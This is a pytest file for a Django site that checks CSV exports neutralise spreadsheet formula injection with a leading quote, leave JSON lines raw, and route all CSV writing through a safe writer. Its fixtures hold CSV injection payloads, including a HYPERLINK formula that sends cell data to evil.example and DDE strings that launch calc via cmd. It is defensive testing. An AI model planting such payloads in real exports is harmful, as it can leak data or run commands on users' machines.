"""CSV exports are safe to open in a spreadsheet: a cell whose text begins with =, +, -, @, a tab
or a carriage return is written with a leading ' (OWASP), in the full export and every tag export;
JSON lines stay raw; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json

import pytest

from catalogue.models import Member
from lib.csv_safe import safe_cell
from tests import factories
from tests.results._support import pages_of, review

pytestmark = pytest.mark.django_db

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


@pytest.fixture
def hostile(db):
    party = factories.make_party("Evil")
    member = Member.objects.create(name="=cmd|' /C calc'!A0", slug="-member", party=party)
    factories.make_tag("-minus-tag")
    factories.make_tag("receipt")
    docs = [factories.make_document(member, pages=1, title=title) for title in HOSTILE_TITLES]
    for doc in docs:
        review(pages_of(doc)[0], "-minus-tag", "receipt")
    return docs


def test_every_hostile_cell_of_the_full_export_gets_a_leading_quote(client, hostile, settings):
    settings.RESULTS_IN_ORDER_SETTLE_SECONDS = 0
    rows = _rows(client.get("/exports/all.csv"))
    assert sorted({row["document_title"] for row in rows}) == sorted("'" + t for t in HOSTILE_TITLES)
    assert {row["member"] for row in rows} == {"'-member"}
    assert {row["tag"] for row in rows} == {"'-minus-tag", "receipt"}
    # The harmless cells are untouched: numbers stay numbers, urls stay urls.
    assert all(row["count"] == "1" and row["page_url"].startswith("/pages/") for row in rows)


@pytest.mark.parametrize("tag", ["-minus-tag", "receipt"])
def test_tag_exports_are_safe_too(client, hostile, settings, tag):
    settings.RESULTS_IN_ORDER_SETTLE_SECONDS = 0
    rows = _rows(client.get(f"/exports/tags/{tag}.csv"))
    assert len(rows) == len(HOSTILE_TITLES)
    assert not any(
        value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values()
    )


def test_json_lines_stay_raw(client, hostile, settings):
    settings.RESULTS_IN_ORDER_SETTLE_SECONDS = 0
    body = b"".join(client.get("/exports/all.jsonl").streaming_content).decode()
    rows = [json.loads(line) for line in body.splitlines()][:-1]
    assert sorted({row["document_title"] for row in rows}) == sorted(HOSTILE_TITLES)


def test_the_cell_rule():
    assert safe_cell("=1") == "'=1" and safe_cell("@x") == "'@x" and safe_cell("\rx") == "'\rx"
    assert safe_cell("a=1") == "a=1" and safe_cell("") == ""
    assert safe_cell(-3) == -3 and safe_cell(None) is None


def test_no_module_writes_csv_but_through_the_safe_writer():
    """Every CSV the site writes goes through lib.csv_safe (a new export cannot forget the rule)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        rel = path.relative_to(root).as_posix()
        if rel.startswith((".venv/", "tests/", "bench/", ".data/")) or rel == "lib/csv_safe.py":
            continue
        text = path.read_text(errors="replace")
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(rel)
    assert offenders == []
